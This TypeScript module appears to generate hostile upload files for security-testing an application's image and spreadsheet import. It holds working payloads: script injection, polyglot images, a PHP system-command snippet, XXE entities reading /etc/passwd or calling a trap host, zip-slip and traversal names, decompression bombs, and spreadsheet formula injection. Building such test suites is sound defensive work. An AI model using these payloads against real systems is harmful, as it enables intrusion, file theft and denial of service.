import { crc32, deflateSync, gzipSync } from "node:zlib";
import { TRAP, TRAP_HOST } from "./payloads";
import { workbookParts, zip } from "./xlsx";

export interface AttackFile {
  what: string;
  name: string;
  type?: string;
  bytes: Uint8Array<ArrayBuffer>;
}

const of64 = (text: string) => Buffer.from(text, "base64");
const PNG = of64(
  "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGO4oKCAFTEMLQkAvk5EAfjoixEAAAAASUVORK5CYII=",
);
const GIF = of64("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");
const WEBP = of64("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA");
const SCRIPT = `<script>${TRAP}(1)</script>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${TRAP}(2)">${SCRIPT}</svg>`;

/** What a browser would run if it took it for what it is. */
const RUNNING: Record<string, string | Buffer> = {
  svg: SVG,
  html: `<!doctype html><html>${SCRIPT}`,
  xhtml: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
  stylesheet: `<?xml-stylesheet type="text/xsl" href="#x"?><x id="x">${SCRIPT}</x>`,
  js: `${TRAP}(3)`,
  php: `<?php system('id') ?>${SCRIPT}`,
  mhtml: `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
  svgz: gzipSync(SVG),
  pdf: `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\);${TRAP}\\(4\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  flash: Buffer.from("FWS\x0a\x40\x00\x00\x00", "latin1"),
  utf16: Buffer.from(`\ufeff${SCRIPT}`, "utf16le"),
  utf7: "+ADw-script+AD4-zgran(5)+ADw-/script+AD4-",
  bmp: `BM=1;/*${"\0".repeat(20)}*/=1;${TRAP}(6)`,
  gifjs: `GIF89a=1;${TRAP}(7)//`,
  ico: `\0\0\u0001\0${SCRIPT}`,
};

function chunk(kind: string, body: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(kind), body]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(body.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

function png(width: number, height: number, ...more: Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const lines = chunk("IDAT", deflateSync(Buffer.alloc(Math.min(width * height * 3, 1 << 26))));
  const end = chunk("IEND", Buffer.alloc(0));
  return Buffer.concat([PNG.subarray(0, 8), chunk("IHDR", head), ...more, lines, end]);
}

const withChunk = (kind: string, text: string) =>
  Buffer.concat([PNG.subarray(0, 33), chunk(kind, Buffer.from(text, "latin1")), PNG.subarray(33)]);
const followed = (picture: Buffer, by: string | Buffer) =>
  Buffer.concat([picture, Buffer.from(by as string)]);

function patched(picture: Buffer, at: number, bytes: readonly number[]): Buffer {
  const copy = Buffer.from(picture);
  copy.set(bytes, at);
  return copy;
}

/** Pictures that are more than that, or less. */
const PICTURES: Record<string, Buffer> = {
  "png and html": followed(PNG, SCRIPT),
  "png and svg": followed(PNG, SVG),
  "png and zip": followed(PNG, zip({ "a.html": SCRIPT })),
  "gif and html": followed(GIF, SCRIPT),
  "gif and js": followed(GIF, `;${TRAP}(8)`),
  "webp and html": followed(WEBP, SCRIPT),
  "html and png": Buffer.concat([Buffer.from(SCRIPT), PNG]),
  "zip and png": Buffer.concat([zip({ "a.html": SCRIPT }), PNG]),
  "png with text": withChunk("tEXt", `Comment\0${SCRIPT}`),
  "png with long text": withChunk("iTXt", `Comment\0\0\0\0\0${SCRIPT}`),
  "png with a zipped bomb": withChunk("zTXt", "Comment\0\0"),
  "png with exif": withChunk("eXIf", `MM\0*${SCRIPT}`),
  "png with a profile": withChunk("iCCP", `x\0\0${SCRIPT}`),
  "png with a chunk of nobody": withChunk("heLo", SVG),
  "gif with a comment": Buffer.concat([
    GIF.subarray(0, 19),
    Buffer.from(`!\u00fe${String.fromCharCode(SCRIPT.length)}${SCRIPT}\0`, "latin1"),
    GIF.subarray(19),
  ]),
  "png of 60000 by 60000": png(60_000, 60_000),
  "png of 2147483647 by 1": png(2_147_483_647, 1),
  "png of nothing": png(0, 0),
  "png of a bomb": png(7_000, 9_000),
  "png with a wrong sum": patched(PNG, 29, [0, 0, 0, 0]),
  "png without an end": PNG.subarray(0, PNG.length - 12),
  "png cut in its data": PNG.subarray(0, 50),
  "png cut in its head": PNG.subarray(0, 20),
  "png of eight bytes": PNG.subarray(0, 8),
  "gif of 65535 by 65535": patched(GIF, 6, [255, 255, 255, 255]),
  "gif cut": GIF.subarray(0, 15),
  "webp of 16383 by 16383": patched(WEBP, 26, [255, 63, 255, 63]),
  "webp that says it is long": patched(WEBP, 4, [255, 255, 255, 127]),
  "webp cut": WEBP.subarray(0, 30),
  "jpeg of a head": Buffer.from("ffd8ffe000104a464946000101", "hex"),
  "jpeg with a comment": Buffer.concat([
    Buffer.from("ffd8fffe0020", "hex"),
    Buffer.from(SCRIPT),
    Buffer.from("ffd9", "hex"),
  ]),
  "jpeg of 65535 by 65535": Buffer.from("ffd8ffc0001108ffffffff03012200021101031101ffd9", "hex"),
  "video of a head": Buffer.from(`\0\0\0\u0018ftypmp42${SCRIPT}`, "latin1"),
};

const NAMES = [
  "../../../evil.html",
  "..\\..\\evil.html",
  "/etc/passwd",
  "C:\\evil.png",
  "a.html",
  "a.svg",
  "a.php.png",
  "a.png.html",
  "a.png;.html",
  "a.png%00.html",
  "a.png/.html",
  ".htaccess",
  "con.png",
  "..",
  "evil\u202egnp.html",
  `${"长".repeat(300)}.png`,
  `<img src=x onerror=${TRAP}(9)>.png`,
  `a" onmouseover="${TRAP}(10).png`,
];

const TYPES = [
  "text/html",
  "image/svg+xml",
  "application/xhtml+xml",
  "text/javascript",
  "image/png; charset=utf-7",
  "multipart/form-data; boundary=x",
];

const file = (what: string, name: string, bytes: string | Buffer, type?: string): AttackFile => ({
  what,
  name,
  bytes: new Uint8Array(Buffer.from(bytes as string)),
  ...(type ? { type } : {}),
});

export function attackFiles(): AttackFile[] {
  return [
    ...Object.entries(RUNNING).flatMap(([kind, text]) => [
      file(`${kind} as png`, "a.png", text, "image/png"),
      file(`${kind} by its name`, `a.${kind}`, text),
    ]),
    ...Object.entries(PICTURES).map(([what, bytes]) => file(what, "a.png", bytes, "image/png")),
    ...NAMES.map((name) => file(`named ${name.slice(0, 40)}`, name, PNG, "image/png")),
    ...TYPES.map((type) => file(`a picture called ${type}`, "a.png", PNG, type)),
  ];
}

const ROW = ["标题", "系统公告", "<p>文</p>"];
const PARTS = workbookParts([["标题*", "类型*", "内容*"], ROW]);
const SHEET = "xl/worksheets/sheet1.xml";
const BOOK = "xl/workbook.xml";

const ENTITIES: Record<string, string> = {
  "a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  "an address": `<!DOCTYPE x SYSTEM "http://${TRAP_HOST}/x.dtd">`,
  "a parameter": `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://${TRAP_HOST}/p"> %p;]>`,
  laughs: `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "${"&a;".repeat(99)}"><!ENTITY c "${"&b;".repeat(99)}">]>`,
};

function changed(part: string, change: (text: string) => string): Buffer {
  return zip({ ...PARTS, [part]: change(PARTS[part] ?? "") });
}

const inCell = (text: string) =>
  changed(SHEET, (sheet) => sheet.replace("</sheetData>", `${text}</sheetData>`));
const formula = (text: string) => inCell(`<row r="3"><c r="A3"><f>${text}</f><v>1</v></c></row>`);
const GOOD = zip(PARTS);

const SHEETS: Record<string, Buffer> = {
  "formula of a command": formula("cmd|'/C calc'!A0"),
  "formula of a link": formula(`HYPERLINK("http://${TRAP_HOST}","x")`),
  "formula that asks": formula(`WEBSERVICE("http://${TRAP_HOST}")`),
  "formula that imports": formula(`IMPORTXML("http://${TRAP_HOST}","//a")`),
  "text like a formula": inCell(
    '<row r="3"><c r="A3" t="inlineStr"><is><t>=1+1</t></is></c></row>',
  ),
  "row of a million": inCell('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'),
  "row beyond numbers": inCell('<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>'),
  "column beyond letters": inCell('<row r="3"><c r="ZZZZZZ3"><v>1</v></c></row>'),
  "string that is not there": inCell('<row r="3"><c r="A3" t="s"><v>4000000000</v></c></row>'),
  "date beyond time": inCell('<row r="3"><c r="A3" t="d"><v>99999999-99-99</v></c></row>'),
  "half a million empty rows": inCell('<row r="3"/>'.repeat(500_000)),
  "deep elements": inCell(`${"<a>".repeat(50_000)}`),
  "a dimension of everything": changed(SHEET, (text) =>
    text.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'),
  ),
  "shared strings that say four billion": zip({
    ...PARTS,
    "xl/sharedStrings.xml":
      '<sst count="4000000000" uniqueCount="4000000000"><si><t>a</t></si></sst>',
  }),
  "shared strings of one long text": zip({
    ...PARTS,
    "xl/sharedStrings.xml": `<sst><si><t>${"a".repeat(5_000_000)}</t></si></sst>`,
  }),
  "external links": zip({
    ...PARTS,
    "xl/externalLinks/externalLink1.xml": `<externalLink><externalBook id="http://${TRAP_HOST}"/></externalLink>`,
  }),
  macros: zip({ ...PARTS, "xl/vbaProject.bin": Buffer.from("d0cf11e0a1b11ae1", "hex") }),
  "a way out": zip({ ...PARTS, "../../../../tmp/evil.xml": "<x/>" }),
  "a zip within": zip({ ...PARTS, "a.zip": GOOD }),
  "html within": zip({ ...PARTS, "a.html": SCRIPT }),
  "no sheet": zip({ [BOOK]: PARTS[BOOK] ?? "" }),
  "a sheet elsewhere": changed("xl/_rels/workbook.xml.rels", (text) =>
    text.replace("worksheets/sheet1.xml", `http://${TRAP_HOST}/sheet.xml`),
  ),
  "an empty zip": Buffer.concat([Buffer.from("PK\x05\x06"), Buffer.alloc(18)]),
  "a wrong directory": patched(GOOD, GOOD.length - 6, [255, 255, 255, 127]),
  "too many entries": patched(GOOD, GOOD.length - 12, [255, 255]),
  "a wrong sum": patched(GOOD, 14, [1, 2, 3, 4]),
  "an encrypted entry": patched(GOOD, 6, [1, 0]),
  "a length of four billion": patched(GOOD, 22, [255, 255, 255, 255]),
  "a zip cut in half": GOOD.subarray(0, GOOD.length >> 1),
  "a zip of its head": GOOD.subarray(0, 30),
  "an old workbook of a head": Buffer.from("d0cf11e0a1b11ae1", "hex"),
  "an old workbook of circles": Buffer.concat([
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(4_096, 1),
  ]),
  html: Buffer.from(`<html><table><tr><td>${SCRIPT}</table>`),
  csv: Buffer.from("标题*,类型*\n=cmd|' /C calc'!A0,系统公告\n"),
  nothing: Buffer.alloc(0),
};

export function attackSheets(): AttackFile[] {
  return [
    ...Object.keys(PARTS).flatMap((part) =>
      Object.entries(ENTITIES).map(([what, text]) =>
        file(
          `${what} in ${part}`,
          "a.xlsx",
          changed(part, (body) => text + body),
        ),
      ),
    ),
    ...Object.entries(SHEETS).map(([what, bytes]) => file(what, "../../a.xlsx", bytes)),
  ];
}
